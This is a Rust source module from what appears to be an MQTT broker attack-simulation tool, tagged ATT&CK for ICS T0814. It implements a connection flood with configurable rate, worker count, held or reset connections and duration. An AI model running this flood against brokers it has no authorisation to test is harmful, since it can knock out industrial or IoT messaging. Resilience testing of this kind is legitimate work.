//! More connections than a broker likes to see (ATT&CK for ICS T0814).

use std::io::Write;
use std::net::TcpStream;

use clap::Args;
use serde::{Deserialize, Serialize};

use super::manner::{Manner, Naming};
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::packet::Version;
use crate::mqtt::session::{Session, reset};
use crate::random::Random;
use crate::stop::Stop;

/// What happens to each connection of the flood.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Ending {
    /// Wait for the CONNACK, then DISCONNECT.
    Polite,
    /// Send CONNECT and close at once.
    Abandon,
    /// Send CONNECT and reset the connection.
    Reset,
    /// Wait for the CONNACK and keep the connection until the end.
    Hold,
    /// Connect by TCP, say nothing, close.
    Silent,
}

/// Options of the connect flood.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct ConnectFlood {
    /// Connections in all
    #[arg(long, default_value_t = 600)]
    pub count: u32,
    /// Connections a second over all workers; 0 is as fast as possible
    #[arg(long, default_value_t = 100.0)]
    pub rate: f64,
    /// How much each pause varies: 0 not at all, 1 from none to twice as long
    #[arg(long, default_value_t = 0.0)]
    pub jitter: f64,
    /// Workers that connect at the same time
    #[arg(long, default_value_t = 2)]
    pub workers: u32,
    /// What happens to each connection
    #[arg(long, value_enum, default_value = "polite")]
    pub ending: Ending,
    /// Client identifiers
    #[arg(long, value_enum, default_value = "random")]
    pub naming: Naming,
    /// Keep alive in seconds
    #[arg(long, default_value_t = 60)]
    pub keep_alive: u16,
    /// Protocol version
    #[arg(long, value_enum, default_value = "3.1.1")]
    pub protocol: Version,
    /// Stop after so many seconds
    #[arg(long, default_value_t = 8)]
    pub secs: u32,
}

impl Default for ConnectFlood {
    fn default() -> Self {
        defaults()
    }
}

/// Most connections that one flood holds open.
const MOST_HELD: usize = 2000;

impl Deed for ConnectFlood {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_connect_flood", "A1")
    }

    fn secs(&self) -> u32 {
        self.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let &Self { rate, jitter, workers, .. } = self;
        let manner = Manner { rate, jitter, workers, ..Manner::default() };
        manner.work(place, stop, meter, self.count, |mut worker| {
            let mut held: Vec<TcpStream> = Vec::new();
            while worker.turn().is_some() {
                if let Some(stream) = self.one(place, meter, &mut worker.random)
                    && held.len() < MOST_HELD
                {
                    held.push(stream);
                }
            }
        });
    }
}

impl ConnectFlood {
    /// One connection; given back if it is to be held.
    fn one(&self, place: &Place, meter: &Meter, random: &mut Random) -> Option<TcpStream> {
        let dial = place.dial();
        let client_id = self.naming.name(self.protocol, random.seed() % 100_000, random);
        let connect = place.connect(self.protocol, &client_id, self.keep_alive);
        if matches!(self.ending, Ending::Polite | Ending::Hold) {
            let session = meter.connected(Session::connect(&dial, &connect))?;
            if self.ending == Ending::Hold {
                return Some(session.into_stream());
            }
            session.leave();
            return None;
        }
        let sent = dial.open().and_then(|mut stream| match self.ending {
            Ending::Silent => Ok(()),
            Ending::Reset => {
                stream.write_all(&connect.encode())?;
                reset(stream)
            }
            Ending::Abandon | Ending::Polite | Ending::Hold => stream.write_all(&connect.encode()),
        });
        meter.tell(&sent);
        None
    }
}
